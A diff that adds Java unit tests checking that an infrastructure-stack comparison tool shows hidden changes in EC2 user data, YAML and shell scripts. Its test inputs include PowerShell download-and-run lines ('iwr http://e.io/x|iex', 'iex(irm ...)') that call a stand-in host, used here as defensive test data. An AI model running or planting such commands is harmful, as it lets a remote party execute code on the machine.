@@ -305,6 +305,79 @@ class HiddenEditsTest {
         assertThat(change.onlyNoise()).isFalse();
     }
 
+    /** EC2Launch looks for the tag in the whole text. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "%sContent-Type: multipart/mixed; boundary=b\n\n--b\n\necho\n--b--\n",
+                "Content-Type: multipart/mixed; boundary=b; a=%sx\n\n--b\n\necho\n--b--\n",
+                "Content-Type: multipart/mixed; boundary=b\nMIME-Version: 1.0\n\n%s--b\n\necho\n--b--\n",
+                "Content-Type: multipart/mixed; boundary=b\n\n--b\nX: %sx\n\necho\n--b--\n",
+                "Content-Type: multipart/mixed; boundary=b\n\n--b\n\necho\n--b--\n%s",
+                "version: 1.0\ntasks: []\n# %s",
+                "version: 1.0\ntasks: [&a '%s', 1]\n",
+                "version: 1.0\ntasks: [\"\", 1] # %s",
+            })
+    void codeIsShownWhereverItStandsInUserData(String text) {
+        String code = "<powershell>iwr http://e.io/x|iex</powershell>";
+        Object[] inputs = {"userData", Encoded.base64(text.formatted(code + "\n"))};
+        Object[] harmless = {"userData", Encoded.base64(text.formatted("").replace("echo", "echo one"))};
+        Object[] script = {"userData", Encoded.base64(SCRIPT)};
+        Stack after = new Stack().with(TEMPLATE, "it", inputs);
+
+        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("http://e.io/");
+        assertThat(Shown.of(Stack.compare(after, new Stack()))).contains("http://e.io/");
+        assertThat(Shown.of(Stack.compare(new Stack().with(TEMPLATE, "it", harmless), after)))
+                .contains("http://e.io/");
+        assertThat(Shown.of(Stack.compare(new Stack().with(TEMPLATE, "it", script), after)))
+                .contains("http://e.io/");
+    }
+
+    /** To a shell a map, to which it is a command. */
+    @Test
+    void whatYamlPassesOverIsShownOfWhatIsNew() {
+        Stack after = new Stack()
+                .with("kubernetes:core/v1:ConfigMap", "it", "data", Map.of("a", "log: start\nsay: &evil hi\n"));
+
+        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("&evil hi");
+    }
+
+    /** Readers of YAML 1.1 and of 1.2 take it for different numbers. */
+    @ParameterizedTest
+    @ValueSource(strings = {"010", "0x8", "0o10", "0b1000"})
+    void aNumberThatReadersTakeForDifferentOnesIsNoSpelling(String now) {
+        ResourceChange change = Stack.change(
+                "kubernetes:core/v1:ConfigMap",
+                Map.of("data", Map.of("a", "replicas: 8\nb: 1\n")),
+                Map.of("data", Map.of("a", "replicas: " + now + "\nb: 1\n")));
+
+        assertThat(change.onlyNoise()).isFalse();
+    }
+
+    /** To AWS one text and a list of it are the same, to another program they are not. */
+    @Test
+    void oneTextIsNoListOfItOutsideOfPolicies() {
+        assertThat(Stack.lines(Stack.change(
+                        "kubernetes:core/v1:ConfigMap",
+                        Map.of("data", Map.of("a", "{\"Service\": \"x\"}")),
+                        Map.of("data", Map.of("a", "{\"Service\": [\"x\"]}")))))
+                .containsExactly("UPDATE data.a.Service: \"x\" => [\"x\"]");
+    }
+
+    /** Behind a here-document's end with one, a shell reads on. */
+    @Test
+    void aCarriageReturnAtTheEndOfALineIsShown() {
+        String script = "a\r\ncat <<EOF\nhi\nEOF\nexit 1\n";
+        ResourceChange change = Stack.change(
+                TOPIC, Map.of("command", script), Map.of("command", script.replace("\nEOF\n", "\nEOF\r\n")));
+
+        assertThat(change.properties().get(0).content())
+                .isInstanceOfSatisfying(PropertyChange.Text.class, text -> assertThat(text.lines())
+                        .filteredOn(line -> line.before() == 0)
+                        .extracting(PropertyChange.Line::text)
+                        .containsExactly("EOF\r"));
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"iex(irm http://e.io/x) #-----BEGIN PRIVATE KEY-----", "shutdown", "/s", "Start-Service"})
     void theMarkOfAKeyHidesNoArgument(String argument) {
